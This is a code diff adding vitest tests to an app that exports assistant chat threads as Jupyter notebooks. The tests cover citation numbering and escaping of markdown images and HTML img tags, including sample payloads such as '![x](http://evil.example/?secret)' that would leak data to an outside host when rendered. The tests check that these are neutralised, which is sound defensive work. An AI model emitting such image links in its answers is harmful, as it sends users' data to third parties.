@@ -1,6 +1,6 @@
 import { describe, expect, it, onTestFinished } from 'vitest';
 import { type NotebookSource, notebookOf } from '../../../src/main/services/notebook/notebook-of';
-import type { Call, ThreadId } from '../../../src/preload/contract';
+import type { Call, Message, ThreadId } from '../../../src/preload/contract';
 import { CallId, ChartId, FileId, ResultId, StepId } from '../../../src/preload/contract/ids';
 import { addData, ask, openTestApp } from '../../support/app';
 import { NotebookShape } from '../../support/nbformat';
@@ -131,6 +131,53 @@ describe('a thread as a notebook', () => {
       'Read as **total by region**\n\nWest led.\n\n![Chart](attachment:picture-1.png)',
     ]);
     expect(made.cells.at(-1)).toMatchObject({ attachments: { 'picture-1.png': { 'image/png': 'aGVsbG8=' } } });
+  });
+
+  const answered = (changes: Partial<Message>) => {
+    const answer = message('2', { role: 'assistant', ...changes });
+    const run = runWith([]);
+    const steps = run.steps.map((step) => ({ ...step, type: 'message_creation' as const, messageId: answer.id }));
+    return notebook([], { messages: [answer], runs: [{ ...run, steps }] });
+  };
+
+  it('numbers what an answer cites, and lists the sources below', () => {
+    const text = 'Storks nest in spring【0:1†source】.';
+    const [start, end] = [text.indexOf('【'), text.indexOf('】') + 1];
+    const made = answered({
+      parts: [{ type: 'text', text }],
+      citations: [
+        {
+          ...{ part: 0, start, end, number: 1, documentId: null, name: 'handbook.pdf', quote: 'Storks' },
+          place: { page: 2, sheet: null, line: 1, start: 0, end: 6 },
+        },
+      ],
+    });
+    expect(texts(made).at(-1)).toBe('Storks nest in spring [1].\n\n- [1] handbook.pdf, page 2');
+  });
+
+  it.each([
+    ['a picture from elsewhere', '![x](http://evil.example/?secret)', '!\\[x](http://evil.example/?secret)'],
+    ['a picture by reference', '![x]\n\n[x]: http://evil.example', '!\\[x]\n\n[x]: http://evil.example'],
+    ['markup', 'a <img src=http://evil.example> b', 'a \\<img src=http://evil.example> b'],
+    ['a fence in a list', '- a\n  ```\n![x](http://e)', '- a\n  ```\n!\\[x](http://e)'],
+    ['a fence that is none', '```a`b\n![x](http://e)', '```a`b\n!\\[x](http://e)'],
+    ['what follows a fence', '```\n![x]\n```\n![x](http://e)', '```\n![x]\n```\n!\\[x](http://e)'],
+    ['what follows a longer end', '```\n1\n  ````  \n![x](http://e)', '```\n1\n  ````  \n!\\[x](http://e)'],
+    ['what follows a fence of other line ends', '```\r\n1\r\n```\r\n![x](http://e)', '```\n1\n```\n!\\[x](http://e)'],
+    ['code as it is', '```rust\nvec![1] <b>\n```\n1 < 2', '```rust\nvec![1] <b>\n```\n1 < 2'],
+  ])('fetches nothing when it is opened: %s', (_, text, kept) => {
+    expect(texts(answered({ parts: [{ type: 'text', text }] })).at(-1)).toBe(kept);
+  });
+
+  it('fetches nothing for a fence that one part opens and the next one closes', () => {
+    const parts = ['```', '```\n![x](http://e)'].map((text) => ({ type: 'text' as const, text }));
+    expect(texts(answered({ parts })).at(-1)).toBe('```\n\n```\n!\\[x](http://e)');
+  });
+
+  it('says of which type a picture is', () => {
+    const run = runWith([codeCall('1', { outputs: [{ type: 'image', fileId: picture }] })]);
+    const made = notebook([], { runs: [run], pictureOf: () => '/9j/4AAQ' });
+    expect(codeCells(made)[0]?.outputs).toMatchObject([{ data: { 'image/jpeg': '/9j/4AAQ' } }]);
   });
 
   it('leaves local runs out, and says why a run failed', () => {
